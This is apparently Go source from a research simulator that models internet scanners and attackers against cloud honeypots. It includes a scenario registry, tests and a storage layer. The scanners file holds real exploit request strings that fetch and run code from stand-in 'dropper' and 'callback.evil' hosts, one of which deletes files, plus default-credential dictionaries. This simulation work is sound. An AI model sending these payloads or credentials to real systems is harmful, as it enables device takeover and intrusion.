		return nil, nil, "segment missing layout frame"
	}
	lr := wire.NewBinReader(layout)
	workers := int(lr.U32())
	epochs := int(lr.U32())
	scenario := lr.String()
	actorWorker := lr.I32s()
	if lr.Err() != nil || lr.Len() != 0 {
		return nil, nil, "layout frame malformed"
	}
	if workers < 1 || workers > 1<<20 || epochs < 1 || epochs > 1<<20 {
		return nil, nil, fmt.Sprintf("layout declares %d workers, %d epochs", workers, epochs)
	}
	if len(frames) != 3+epochs {
		return nil, nil, fmt.Sprintf("segment holds %d of %d epoch frames", len(frames)-3, epochs)
	}

	m = &core.StudyMaterial{
		Scenario:    scenario,
		Workers:     workers,
		ActorWorker: actorWorker,
		Epochs:      make([]core.EpochMaterial, epochs),
	}
	for e := 0; e < epochs; e++ {
		fr := frames[3+e]
		if fr.typ != frameEpoch {
			return nil, nil, fmt.Sprintf("frame %d: type %d where epoch expected", 3+e, fr.typ)
		}
		em, err := decodeEpoch(fr.payload, workers, remap)
		if err != nil {
			return nil, nil, fmt.Sprintf("epoch %d: %v", e, err)
		}
		m.Epochs[e] = *em
	}
	return cfgJSON, m, ""
}

func decodeEpoch(payload []byte, workers int, remap []netsim.PayloadID) (*core.EpochMaterial, error) {
	r := wire.NewBinReader(payload)
	em := &core.EpochMaterial{Sinks: make([]core.SinkMaterial, workers)}
	for w := 0; w < workers; w++ {
		tel, err := telescope.DecodeCollector(r)
		if err != nil {
			return nil, fmt.Errorf("worker %d telescope: %w", w, err)
		}
		gn, err := greynoise.DecodeDelta(r)
		if err != nil {
			return nil, fmt.Errorf("worker %d greynoise: %w", w, err)
		}
		blk, err := netsim.DecodeRecordBlock(r, remap)
		if err != nil {
			return nil, fmt.Errorf("worker %d records: %w", w, err)
		}
		seq := r.I32s()
		if r.Err() != nil {
			return nil, fmt.Errorf("worker %d seqs: %w", w, r.Err())
		}
		em.Sinks[w] = core.SinkMaterial{Tel: tel, GN: gn, Blk: &blk, Seq: seq}
	}
	em.Lo = r.I32s()
	em.Hi = r.I32s()
	if r.Err() != nil {
		return nil, r.Err()
	}
	if r.Len() != 0 {
		return nil, fmt.Errorf("%d trailing bytes", r.Len())
	}
	return em, nil
}
