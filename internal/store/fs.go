// Package store is the durable home of a generated study: an
// append-only segment file of checksummed frames holding the sealed
// per-epoch column blocks and collector state (core.StudyMaterial),
// plus a tiny manifest — atomically replaced on every update — that
// records how far the streaming engine has ingested. Opening the
// store validates every frame, truncates a torn tail at the last
// valid frame boundary, and reports either a fully recovered study
// (generation can be skipped entirely) or nothing usable (the caller
// regenerates deterministically and rewrites the segment). All I/O
// goes through the FS interface so tests can inject crashes, short
// writes, and sync failures at programmable points (MemFS).
package store

import (
	"errors"
	"io"
	"io/fs"
	"os"
)

// FS is the slice of a filesystem the store needs. Implementations
// must make Rename atomic with respect to crashes (the manifest
// update protocol relies on it); POSIX rename on a journaling
// filesystem qualifies.
type FS interface {
	MkdirAll(path string) error
	// OpenFile opens a file with os-style flags (os.O_RDONLY, or
	// os.O_WRONLY|os.O_CREATE|os.O_TRUNC). Opening a missing file for
	// reading returns an error satisfying errors.Is(err, fs.ErrNotExist).
	OpenFile(name string, flag int) (File, error)
	Rename(oldpath, newpath string) error
	// Truncate shrinks a file to size bytes (used to cut a torn tail
	// back to the last valid frame boundary).
	Truncate(name string, size int64) error
}

// File is one open store file.
type File interface {
	io.Reader
	io.Writer
	// Sync forces written data to stable storage; until it returns,
	// writes may be lost by a crash.
	Sync() error
	Close() error
}

// DirFS returns the real-filesystem implementation rooted at the
// process working directory (names are passed straight to the os
// package, so absolute and relative paths both work).
func DirFS() FS { return osFS{} }

type osFS struct{}

func (osFS) MkdirAll(path string) error { return os.MkdirAll(path, 0o755) }

func (osFS) OpenFile(name string, flag int) (File, error) {
	f, err := os.OpenFile(name, flag, 0o644)
	if err != nil {
		return nil, err
	}
	return f, nil
}

func (osFS) Rename(oldpath, newpath string) error   { return os.Rename(oldpath, newpath) }
func (osFS) Truncate(name string, size int64) error { return os.Truncate(name, size) }

// readFile reads a whole file through an FS, distinguishing "absent"
// (nil, nil) from real errors.
func readFile(fsys FS, name string) ([]byte, error) {
	f, err := fsys.OpenFile(name, os.O_RDONLY)
	if err != nil {
		if errors.Is(err, fs.ErrNotExist) {
			return nil, nil
		}
		return nil, err
	}
	defer f.Close()
	return io.ReadAll(f)
}
