package scanners

import (
	"strings"
	"testing"
)

// TestScenarioRegistry pins the registry surface: baseline first, the
// three packs present, lookups canonicalize "" to baseline, and every
// registered scenario has a description.
func TestScenarioRegistry(t *testing.T) {
	ids := Scenarios()
	if len(ids) < 4 || ids[0] != BaselineScenario {
		t.Fatalf("Scenarios() = %v, want baseline first and >= 4 entries", ids)
	}
	for _, want := range []string{"baseline", "attack-platform", "stealth", "burst-ddos"} {
		s, ok := LookupScenario(want)
		if !ok {
			t.Fatalf("scenario %q not registered (have %v)", want, ids)
		}
		if s.Description == "" {
			t.Errorf("scenario %q has no description", want)
		}
	}
	if s, ok := LookupScenario(""); !ok || s.ID != BaselineScenario {
		t.Errorf(`LookupScenario("") = %v, %v; want the baseline`, s, ok)
	}
	if got := CanonicalScenario(""); got != BaselineScenario {
		t.Errorf(`CanonicalScenario("") = %q`, got)
	}
	if _, ok := LookupScenario("bogus"); ok {
		t.Error("unregistered id resolved")
	}
	if d := ScenarioDescription("bogus"); d != "" {
		t.Errorf("ScenarioDescription(bogus) = %q", d)
	}
}

// TestRegisterScenarioPanics pins the init-time failure modes:
// duplicate ids, empty ids, and missing builders are programming
// errors, so they panic instead of returning.
func TestRegisterScenarioPanics(t *testing.T) {
	mustPanic := func(name string, s Scenario) {
		t.Helper()
		defer func() {
			if recover() == nil {
				t.Errorf("%s: RegisterScenario did not panic", name)
			}
		}()
		RegisterScenario(s)
	}
	mustPanic("duplicate", Scenario{ID: BaselineScenario, Build: Population})
	mustPanic("empty id", Scenario{Build: Population})
	mustPanic("nil builder", Scenario{ID: "no-builder"})
}

// TestConfigValidate pins the Scale edge behavior fix: a negative
// scale is an error at validation time instead of silently meaning
// 1.0, and an unknown scenario enumerates the registered ids.
func TestConfigValidate(t *testing.T) {
	good := []Config{
		{Seed: 1, Year: 2021},                    // zero scale = default
		{Seed: 1, Year: 2021, Scale: 0.001},      // tiny but positive
		{Seed: 1, Scale: 1, Scenario: "stealth"}, // registered pack
		{Seed: 1, Scale: 2.5, Scenario: ""},      // empty = baseline
		{Seed: 1, Scale: 1, Scenario: BaselineScenario},
	}
	for _, cfg := range good {
		if err := cfg.Validate(); err != nil {
			t.Errorf("Validate(%+v) = %v, want nil", cfg, err)
		}
	}
	if err := (Config{Seed: 1, Scale: -0.5}).Validate(); err == nil {
		t.Error("negative scale accepted")
	} else if !strings.Contains(err.Error(), "-0.5") {
		t.Errorf("negative-scale error should name the value, got %v", err)
	}
	err := (Config{Seed: 1, Scale: 1, Scenario: "bogus"}).Validate()
	if err == nil {
		t.Fatal("unknown scenario accepted")
	}
	for _, id := range Scenarios() {
		if !strings.Contains(err.Error(), id) {
			t.Errorf("unknown-scenario error should enumerate %q, got %v", id, err)
		}
	}
}

// TestPopulationForRejectsBadConfigs checks PopulationFor refuses what
// Validate refuses, and builds the scenario's population otherwise.
func TestPopulationForRejectsBadConfigs(t *testing.T) {
	if _, err := PopulationFor(Config{Seed: 1, Scale: -1}); err == nil {
		t.Error("negative scale built a population")
	}
	if _, err := PopulationFor(Config{Seed: 1, Scenario: "bogus"}); err == nil {
		t.Error("unknown scenario built a population")
	}
	base, err := PopulationFor(Config{Seed: 42, Year: 2021, Scale: 0.4})
	if err != nil {
		t.Fatal(err)
	}
	want := Population(Config{Seed: 42, Year: 2021, Scale: 0.4})
	if len(base) != len(want) {
		t.Fatalf("baseline PopulationFor built %d actors, Population builds %d", len(base), len(want))
	}
	for i := range base {
		if base[i].Name != want[i].Name {
			t.Fatalf("actor %d: %q vs %q", i, base[i].Name, want[i].Name)
		}
	}
}

// TestScenarioPopulationsDistinct checks each pack actually changes
// the world: actor name sets differ from the baseline, every scenario
// builds deterministically, and all actors use registered ASes.
func TestScenarioPopulationsDistinct(t *testing.T) {
	cfg := Config{Seed: 42, Year: 2021, Scale: 0.3}
	baseNames := map[string]bool{}
	for _, a := range Population(cfg) {
		baseNames[a.Name] = true
	}
	for _, id := range Scenarios() {
		if id == BaselineScenario {
			continue
		}
		c := cfg
		c.Scenario = id
		actors, err := PopulationFor(c)
		if err != nil {
			t.Fatalf("%s: %v", id, err)
		}
		if len(actors) < 10 {
			t.Errorf("%s: only %d actors", id, len(actors))
		}
		fresh := 0
		names := map[string]bool{}
		for _, a := range actors {
			if names[a.Name] {
				t.Fatalf("%s: duplicate actor name %q", id, a.Name)
			}
			names[a.Name] = true
			if !baseNames[a.Name] {
				fresh++
			}
			if len(a.IPs) == 0 {
				t.Errorf("%s: actor %q has no sources", id, a.Name)
			}
		}
		if fresh == 0 {
			t.Errorf("%s: population identical to baseline", id)
		}
		// Deterministic construction: same config, same actors.
		again, err := PopulationFor(c)
		if err != nil || len(again) != len(actors) {
			t.Fatalf("%s: rebuild gave %d actors, err %v", id, len(again), err)
		}
		for i := range actors {
			if actors[i].Name != again[i].Name || len(actors[i].IPs) != len(again[i].IPs) {
				t.Fatalf("%s: rebuild differs at actor %d", id, i)
			}
		}
	}
}

// TestScaleRounding pins the scale() edge cases now that negative
// values are rejected upstream: rounding is half-up and the result
// never drops below one source.
func TestScaleRounding(t *testing.T) {
	cases := []struct {
		scale float64
		n     int
		want  int
	}{
		{0, 10, 10},      // zero means 1.0
		{1, 10, 10},      //
		{0.5, 10, 5},     //
		{0.25, 10, 3},    // 2.5 rounds half-up
		{0.04, 10, 1},    // 0.4 rounds to 0, floors at 1
		{0.0001, 100, 1}, // tiny populations keep one source
		{0.0001, 1, 1},   //
		{2, 3, 6},        // upscaling
		{1.5, 3, 5},      // 4.5 rounds half-up
	}
	for _, c := range cases {
		cfg := Config{Scale: c.scale}
		if got := cfg.scale(c.n); got != c.want {
			t.Errorf("scale(%v).scale(%d) = %d, want %d", c.scale, c.n, got, c.want)
		}
	}
}
