package scanners

import (
	"fmt"
	"sort"
	"strings"
)

// A Scenario is one adversarial world the simulator can generate: a
// named actor-mix builder plus the credential/payload dictionaries and
// traffic shape its actors draw from. The paper's collection week is
// registered as "baseline"; alternative populations from the related
// work (cloud-to-cloud attack platforms, low-and-slow stealth
// scanners, synchronized floods) register alongside it, so "how do the
// tables shift under a different attacker world?" is a configuration
// choice, not a code fork.
//
// Every scenario must honor the determinism contract of the pipeline:
// all randomness inside Build and inside the actors it returns comes
// from netsim.Stream streams keyed by stable names (actor names or
// scenario-scoped plan names), never from scheduling order — that is
// what keeps a scenario's output byte-identical across worker counts
// and across the batch, streaming, and store-recovered paths.
type Scenario struct {
	// ID names the scenario in configs, flags, store identity, and the
	// serving API.
	ID string
	// Description is the one-line operator-facing summary.
	Description string
	// Build constructs the scenario's actor population. The Config it
	// receives is validated (non-negative scale, Year defaulted).
	Build func(cfg Config) []*Actor
}

// BaselineScenario is the id of the paper's collection week.
const BaselineScenario = "baseline"

var (
	scenarios     = map[string]*Scenario{}
	scenarioOrder []string // registration order, baseline first
)

// RegisterScenario adds a scenario to the registry. It panics on an
// empty or duplicate id — scenarios register from package init, so a
// collision is a programming error, not a runtime condition.
func RegisterScenario(s Scenario) {
	if s.ID == "" {
		panic("scanners: scenario with empty id")
	}
	if s.Build == nil {
		panic("scanners: scenario " + s.ID + " has no builder")
	}
	if _, dup := scenarios[s.ID]; dup {
		panic("scanners: scenario " + s.ID + " registered twice")
	}
	sc := s
	scenarios[s.ID] = &sc
	scenarioOrder = append(scenarioOrder, s.ID)
}

// Scenarios returns every registered scenario id: baseline first, then
// the alternative worlds sorted by id. The slice is fresh; callers may
// keep or modify it.
func Scenarios() []string {
	out := make([]string, 0, len(scenarioOrder))
	rest := make([]string, 0, len(scenarioOrder))
	for _, id := range scenarioOrder {
		if id == BaselineScenario {
			out = append(out, id)
		} else {
			rest = append(rest, id)
		}
	}
	sort.Strings(rest)
	return append(out, rest...)
}

// LookupScenario returns a registered scenario by id. An empty id
// resolves to the baseline.
func LookupScenario(id string) (*Scenario, bool) {
	s, ok := scenarios[CanonicalScenario(id)]
	return s, ok
}

// CanonicalScenario maps the zero value to the baseline id, so configs
// that predate the scenario axis keep meaning the paper's week.
func CanonicalScenario(id string) string {
	if id == "" {
		return BaselineScenario
	}
	return id
}

// ScenarioDescription returns the registered one-line description, or
// "" for unknown ids.
func ScenarioDescription(id string) string {
	if s, ok := LookupScenario(id); ok {
		return s.Description
	}
	return ""
}

// Validate checks a population config: a negative Scale is rejected
// here instead of silently falling through to 1.0 inside scale(), and
// an unregistered scenario id fails with the registered ids enumerated
// (matching the CLI's -experiment error shape).
func (c Config) Validate() error {
	if c.Scale < 0 {
		return fmt.Errorf("scanners: negative population scale %v; use 0 for the default (1.0)", c.Scale)
	}
	if _, ok := LookupScenario(c.Scenario); !ok {
		return fmt.Errorf("scanners: unknown scenario %q; valid: %s",
			c.Scenario, strings.Join(Scenarios(), ", "))
	}
	return nil
}

// PopulationFor validates the config and builds the population of its
// scenario. This is the entry point the study pipeline uses; the plain
// Population remains the baseline builder for callers that predate the
// scenario axis.
func PopulationFor(cfg Config) ([]*Actor, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	if cfg.Year == 0 {
		cfg.Year = 2021
	}
	s, _ := LookupScenario(cfg.Scenario)
	return s.Build(cfg), nil
}

func init() {
	RegisterScenario(Scenario{
		ID:          BaselineScenario,
		Description: "the paper's collection week: the full measured scanner ecosystem",
		Build:       Population,
	})
}
