// Package scanners implements the simulated attacker/scanner
// population. Every behavioral bias the paper measures is expressed
// here as actor configuration — IP-structure preferences (§4.2),
// search-engine mining (§4.3), geographic credential tailoring (§5.1),
// telescope avoidance (§5.2), unexpected-protocol scanning (§6) — and
// the analysis pipeline must re-discover those biases from the traffic
// alone.
package scanners

import (
	"fmt"

	"cloudwatch/internal/fingerprint"
	"cloudwatch/internal/netsim"
)

// Payload families for HTTP-speaking actors. Payloads are shared
// read-only byte slices; emitters must not mutate them.
var (
	// Benign request-line corpus: ordinary crawling and inventory
	// scans. The paper finds 75% of HTTP/80 payloads send no exploit.
	benignHTTP = [][]byte{
		[]byte("GET / HTTP/1.1\r\nHost: server\r\nUser-Agent: Mozilla/5.0 (compatible; scanner)\r\nAccept: */*\r\n\r\n"),
		[]byte("GET /robots.txt HTTP/1.1\r\nHost: server\r\nUser-Agent: Mozilla/5.0\r\n\r\n"),
		[]byte("GET /favicon.ico HTTP/1.1\r\nHost: server\r\n\r\n"),
		[]byte("HEAD / HTTP/1.1\r\nHost: server\r\n\r\n"),
		[]byte("GET /index.html HTTP/1.1\r\nHost: server\r\nAccept: text/html\r\n\r\n"),
	}

	researchHTTP = [][]byte{
		[]byte("GET / HTTP/1.1\r\nHost: server\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\n\r\n"),
		[]byte("GET / HTTP/1.1\r\nHost: server\r\nUser-Agent: Mozilla/5.0 (compatible; CensysInspect/1.1)\r\n\r\n"),
	}

	nmapHTTP = [][]byte{
		[]byte("GET / HTTP/1.1\r\nHost: server\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)\r\n\r\n"),
		[]byte("OPTIONS / HTTP/1.1\r\nHost: server\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)\r\n\r\n"),
	}

	// Exploit corpus: each entry trips a distinct rule in
	// internal/ids. Weights applied by the actors decide the regional
	// payload mix.
	exploitLog4Shell = []byte("GET /?x=${jndi:ldap://callback.evil/a} HTTP/1.1\r\nHost: server\r\nUser-Agent: ${jndi:ldap://callback.evil/ua}\r\n\r\n")
	exploitGPON      = []byte("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: server\r\n\r\nXWebPageName=diag&diag_action=ping&dest_host=;wget http://dropper/gpon -O /tmp/g;sh /tmp/g&ipv=0")
	exploitThinkPHP  = []byte("GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id HTTP/1.1\r\nHost: server\r\n\r\n")
	exploitPHPUnit   = []byte("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: server\r\n\r\n<?php system('id');")
	exploitJAWS      = []byte("GET /shell?cd+/tmp;rm+-rf+*;wget+http://dropper/jaws.sh;sh+/tmp/jaws.sh HTTP/1.1\r\nHost: server\r\n\r\n")
	exploitHuawei    = []byte("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: server\r\nSOAPAction: urn:schemas-upnp-org:service:WANPPPConnection:1#Upgrade\r\n\r\n<u:Upgrade><NewDownloadURL>$(/bin/busybox wget http://dropper/hw -O -)</NewDownloadURL></u:Upgrade>")
	exploitHNAP      = []byte("POST /HNAP1 HTTP/1.1\r\nHost: server\r\nSOAPAction: \"http://purenetworks.com/HNAP1/`cd /tmp && wget http://dropper/h; sh h`\"\r\n\r\n")
	exploitMozi      = []byte("GET /picsdesc.xml HTTP/1.1\r\nHost: server\r\n\r\n<NewInternalClient>`wget http://dropper/Mozi.m -O /tmp/m; sh /tmp/m`</NewInternalClient>")
	exploitBoaform   = []byte("POST /boaform/admin/formLogin HTTP/1.1\r\nHost: server\r\n\r\nusername=admin&psd=admin")
	exploitCitrix    = []byte("POST /vpn/../vpns/portal/scripts/newbclink.pl HTTP/1.1\r\nHost: server\r\nNSC_USER: ../../../netscaler/portal/templates/x\r\n\r\n")
	exploitTraversal = []byte("GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\nHost: server\r\n\r\n")
	exploitSQLi      = []byte("GET /products?id=1+UNION+SELECT+username,password+FROM+users-- HTTP/1.1\r\nHost: server\r\n\r\n")
	exploitWPLogin   = []byte("POST /wp-login.php HTTP/1.1\r\nHost: server\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nlog=admin&pwd=admin123")
	exploitEnvProbe  = []byte("GET /.env HTTP/1.1\r\nHost: server\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
	exploitGitProbe  = []byte("GET /.git/config HTTP/1.1\r\nHost: server\r\n\r\n")
	exploitHadoop    = []byte("POST /ws/v1/cluster/apps/new-application HTTP/1.1\r\nHost: server\r\n\r\n")
	exploitDocker    = []byte("POST /containers/create HTTP/1.1\r\nHost: server\r\nContent-Type: application/json\r\n\r\n{\"Image\":\"alpine\",\"Cmd\":[\"sh\"]}")
	exploitAndroid   = []byte("POST /login HTTP/1.1\r\nHost: server\r\nUser-Agent: Dalvik/2.1 (Linux; U; Android 9; emulator)\r\n\r\ncmd=chmod 777 ./adbminer; ./adbminer")
	exploitPostLogin = []byte("POST /api/login HTTP/1.1\r\nHost: server\r\nContent-Type: application/json\r\n\r\n{\"user\":\"admin\",\"pass\":\"admin\"}")
)

// Named payload groups used by regional actors; keys let tests assert
// mixes without copying bytes around.
var httpExploitGroups = map[string][][]byte{
	"global": {
		exploitLog4Shell, exploitGPON, exploitThinkPHP, exploitPHPUnit,
		exploitTraversal, exploitSQLi, exploitWPLogin, exploitEnvProbe,
		exploitGitProbe, exploitCitrix, exploitBoaform,
	},
	"iot-apac": {
		exploitHuawei, exploitMozi, exploitHNAP, exploitJAWS, exploitGPON,
		exploitBoaform,
	},
	"cloud-api": {
		exploitHadoop, exploitDocker, exploitLog4Shell,
	},
	"android": {
		exploitAndroid,
	},
	"post-login": {
		exploitPostLogin, exploitWPLogin,
	},
}

// HTTPExploits returns the payloads of a named exploit group. It
// panics on an unknown group name (a programming error in actor
// construction).
func HTTPExploits(group string) [][]byte {
	g, ok := httpExploitGroups[group]
	if !ok {
		panic(fmt.Sprintf("scanners: unknown exploit group %q", group))
	}
	return g
}

// BenignHTTP returns the benign HTTP request corpus.
func BenignHTTP() [][]byte { return benignHTTP }

// Interned-id mirrors of the payload corpora: every dictionary
// registers with the study-wide interner once at package init, and
// actors emit the resulting compact ids — the collection pipeline
// never hashes or copies payload bytes per probe.
var (
	benignHTTPIDs    = netsim.InternPayloads(benignHTTP)
	researchHTTPIDs  = netsim.InternPayloads(researchHTTP)
	nmapHTTPIDs      = netsim.InternPayloads(nmapHTTP)
	telnetCommandID  = netsim.InternPayload(telnetCommand)
	exploitAndroidID = netsim.InternPayload(exploitAndroid)
	exploitPostLogID = netsim.InternPayload(exploitPostLogin)

	httpExploitIDs = func() map[string][]netsim.PayloadID {
		m := make(map[string][]netsim.PayloadID, len(httpExploitGroups))
		for name, g := range httpExploitGroups {
			m[name] = netsim.InternPayloads(g)
		}
		return m
	}()

	// protoProbeIDs interns fingerprint.Probe for every identifiable
	// protocol, so protocol-probe emitters stop rebuilding the probe
	// bytes per packet.
	protoProbeIDs = func() map[fingerprint.Protocol]netsim.PayloadID {
		m := map[fingerprint.Protocol]netsim.PayloadID{}
		for _, p := range fingerprint.All() {
			m[p] = netsim.InternPayload(fingerprint.Probe(p))
		}
		return m
	}()
)

// HTTPExploitIDs returns the interned ids of a named exploit group, in
// HTTPExploits order. It panics on an unknown group name.
func HTTPExploitIDs(group string) []netsim.PayloadID {
	g, ok := httpExploitIDs[group]
	if !ok {
		panic(fmt.Sprintf("scanners: unknown exploit group %q", group))
	}
	return g
}

// ProbeID returns the interned id of fingerprint.Probe(p).
func ProbeID(p fingerprint.Protocol) netsim.PayloadID { return protoProbeIDs[p] }

// unexpectedProtocolProbes are the non-HTTP first payloads sent to
// HTTP-assigned ports (§6): TLS leads at 7%, then Telnet, SQL, RTSP,
// SMB.
var unexpectedProtocolProbes = []struct {
	Proto  fingerprint.Protocol
	Weight float64
}{
	{fingerprint.TLS, 7.0},
	{fingerprint.Telnet, 0.5},
	{fingerprint.MySQL, 0.4},
	{fingerprint.RTSP, 0.3},
	{fingerprint.SMB, 0.3},
	{fingerprint.Redis, 0.2},
	{fingerprint.SSH, 0.2},
}

// Credential dictionaries. Interactive actors attach these to their
// probes; only interactive collectors (Cowrie) observe them.
var (
	// Global telnet top credentials: the Mirai-era dictionary. The
	// paper's "top attempted Telnet usernames for most geographic
	// regions are root, admin, and support".
	telnetUsersGlobal = []netsim.Credential{
		{Username: "root", Password: "xc3511"},
		{Username: "root", Password: "vizxv"},
		{Username: "root", Password: "admin"},
		{Username: "admin", Password: "admin"},
		{Username: "root", Password: "888888"},
		{Username: "root", Password: "xmhdipc"},
		{Username: "root", Password: "default"},
		{Username: "root", Password: "juantech"},
		{Username: "support", Password: "support"},
		{Username: "root", Password: "123456"},
		{Username: "admin", Password: "password"},
		{Username: "root", Password: "54321"},
		{Username: "support", Password: "admin"},
		{Username: "root", Password: "root"},
		{Username: "user", Password: "user"},
		{Username: "admin", Password: "smcadmin"},
	}

	// Huawei-targeting dictionary seen "an order of magnitude" more in
	// the AWS Australia region (§5.1): e8ehome / mother.
	telnetUsersHuaweiAU = []netsim.Credential{
		{Username: "e8ehome", Password: "e8ehome"},
		{Username: "mother", Password: "fucker"},
		{Username: "e8telnet", Password: "e8telnet"},
		{Username: "mother", Password: "mother"},
	}

	// SSH bruteforce: usernames vary across campaigns far more than
	// passwords (§4.1: top-3 SSH usernames differ across 55% of
	// neighborhoods, passwords across only 4%).
	sshPasswordsCommon = []string{"123456", "password", "admin"}

	sshUserLists = map[string][]string{
		"root-heavy":    {"root", "admin", "test"},
		"service-heavy": {"oracle", "postgres", "mysql"},
		"cloud-heavy":   {"ubuntu", "ec2-user", "centos"},
		"user-heavy":    {"user", "guest", "ftpuser"},
		"iot-heavy":     {"pi", "nagios", "dev"},
	}

	sshUserListKeys = []string{"root-heavy", "service-heavy", "cloud-heavy", "user-heavy", "iot-heavy"}
)

// TelnetDictGlobal returns the global telnet dictionary.
func TelnetDictGlobal() []netsim.Credential { return telnetUsersGlobal }

// TelnetDictHuaweiAU returns the Australia-targeted Huawei dictionary.
func TelnetDictHuaweiAU() []netsim.Credential { return telnetUsersHuaweiAU }

// sshCredsByFlavor memoizes the per-flavor campaign dictionaries:
// several actors draw from them per probe, so they are built once at
// init instead of per call.
var sshCredsByFlavor = func() map[string][]netsim.Credential {
	m := make(map[string][]netsim.Credential, len(sshUserLists))
	for flavor, users := range sshUserLists {
		var out []netsim.Credential
		for _, u := range users {
			for _, p := range sshPasswordsCommon {
				out = append(out, netsim.Credential{Username: u, Password: p})
			}
		}
		m[flavor] = out
	}
	return m
}()

// sshCreds returns the credential list of one SSH campaign: a username
// flavor crossed with the shared password set. The list is shared and
// read-only.
func sshCreds(flavor string) []netsim.Credential {
	out, ok := sshCredsByFlavor[flavor]
	if !ok {
		panic(fmt.Sprintf("scanners: unknown ssh user flavor %q", flavor))
	}
	return out
}

// telnetCommand is the post-login command Mirai-style bots issue; it
// trips the busybox trojan rule when a payload-collecting honeypot
// records it.
var telnetCommand = []byte("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n")
