package scanners

import (
	"math/rand"
	"strconv"
	"time"

	"cloudwatch/internal/netsim"
)

// The alternative adversarial worlds of the scenario registry. Each
// pack keeps the ambient floor of the baseline week (research scanners
// plus Internet background radiation) and replaces the attacker
// population with one named behavior from the related work:
//
//	attack-platform  cloud-hosted sources scanning cloud targets at
//	                 platform scale ("Cloud as an Attack Platform")
//	stealth          low-and-slow scanners staying under per-source
//	                 IDS rate thresholds ("Launching Stealth Attacks
//	                 using Cloud")
//	burst-ddos       synchronized short-lived floods from consumer-ISP
//	                 botnets (booter-style bursts)
//
// Every actor draws all of its randomness from streams keyed by its
// own name — and flood plans from scenario-scoped stream names each
// member re-derives identically — so a pack's output is byte-identical
// across worker counts exactly like the baseline.

func init() {
	RegisterScenario(Scenario{
		ID:          "attack-platform",
		Description: "cloud-hosted attack nodes bruteforcing and exploiting cloud targets at platform scale",
		Build:       attackPlatformScenario,
	})
	RegisterScenario(Scenario{
		ID:          "stealth",
		Description: "low-and-slow scanners: wide source pools, single attempts, rates under IDS thresholds",
		Build:       stealthScenario,
	})
	RegisterScenario(Scenario{
		ID:          "burst-ddos",
		Description: "synchronized short-lived floods from consumer-ISP botnets, quiet between bursts",
		Build:       burstDDoSScenario,
	})
}

// ambientActors is the benign/background floor every alternative
// scenario keeps: the research scanners and background radiation of
// the baseline week. They give each world a GreyNoise-vetted benign
// slice and a telescope baseline, so the benign-vs-malicious and
// honeypot-vs-telescope comparisons stay well-defined however the
// attacker population changes.
func ambientActors(cfg Config) []*Actor {
	actors := bulkResearch(cfg)
	return append(actors, backgroundRadiation(cfg)...)
}

// exploitMix returns a payload picker that sends an exploit with
// probability share and a benign request otherwise — the pack-local
// copy of the baseline campaigns' payload split.
func exploitMix(exploits []netsim.PayloadID, share float64) func(*rand.Rand, *netsim.Target) netsim.PayloadID {
	return func(rng *rand.Rand, t *netsim.Target) netsim.PayloadID {
		if rng.Float64() < share {
			return exploits[rng.Intn(len(exploits))]
		}
		return benignHTTPIDs[rng.Intn(len(benignHTTPIDs))]
	}
}

// --- attack-platform: cloud scanning cloud ----------------------------------

// attackPlatformASNs hosts the attack nodes: every cloud provider in
// the AS registry. The defining trait of the scenario is that sources
// and targets are both cloud-hosted.
var attackPlatformASNs = []int{16509, 396982, 8075, 14061, 24940, 16276, 63949, 45090, 37963, 49505}

func attackPlatformScenario(cfg Config) []*Actor {
	actors := ambientActors(cfg)
	cloudOnly := func(t *netsim.Target) bool { return t.Kind == netsim.KindCloud }
	webExploits := HTTPExploitIDs("global")
	for _, asn := range attackPlatformASNs {
		name := "platform-" + strconv.Itoa(asn)
		sshDict := sshCreds("cloud-heavy")
		actors = append(actors, newActor(cfg, name, asn, false, 24, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			// Platform-scale bruteforce: every node sweeps the cloud
			// fleet's SSH ports with credential batteries.
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{22, 2222}, Cover: 0.55, Filter: cloudOnly,
				MinAttempts: 1, MaxAttempts: 4,
				Creds: func(rng *rand.Rand, t *netsim.Target) []netsim.Credential {
					return a.pickCreds(rng, sshDict, 1, 4)
				},
			})
			// Web exploitation of the same fleet: mostly exploits, a
			// thin benign cover.
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{80, 8080, 443}, Cover: 0.45, Filter: cloudOnly,
				MinAttempts: 1, MaxAttempts: 2,
				Payload: exploitMix(webExploits, 0.7),
			})
			// Attack platforms chase live services, not darknet: the
			// telescope footprint is a trace, which is what separates
			// this world in the honeypot-vs-telescope tables.
			a.ScanTelescope(ctx, emit, TelescopeScan{Ports: []uint16{22, 80}, PerIP: 1})
		}))
	}
	return actors
}

// --- stealth: low-and-slow under the IDS rate threshold ----------------------

// stealthASNs spreads the slow scanners across consumer ISPs on every
// continent — a wide, unremarkable source population is the point.
var stealthASNs = []int{7922, 701, 3320, 1221, 4766, 3462, 9121, 12389, 8151, 28573, 17974, 45899}

func stealthScenario(cfg Config) []*Actor {
	actors := ambientActors(cfg)
	flavors := []string{"root-heavy", "user-heavy", "service-heavy", "iot-heavy"}
	for i, asn := range stealthASNs {
		name := "stealth-" + strconv.Itoa(asn)
		dict := sshCreds(flavors[i%len(flavors)])
		actors = append(actors, newActor(cfg, name, asn, false, 55, func(a *Actor, ctx *Context, emit func(*netsim.Probe)) {
			// Low-and-slow: a wide source pool where each source
			// touches a sliver of the fleet exactly once with a single
			// credential — per-source volume stays under any IDS rate
			// threshold while the campaign in aggregate still covers
			// the fleet.
			a.ScanServices(ctx, emit, ServiceScan{
				Ports: []uint16{22}, Cover: 0.05, MinAttempts: 1,
				Creds: func(rng *rand.Rand, t *netsim.Target) []netsim.Credential {
					return a.pickCreds(rng, dict, 1, 1)
				},
			})
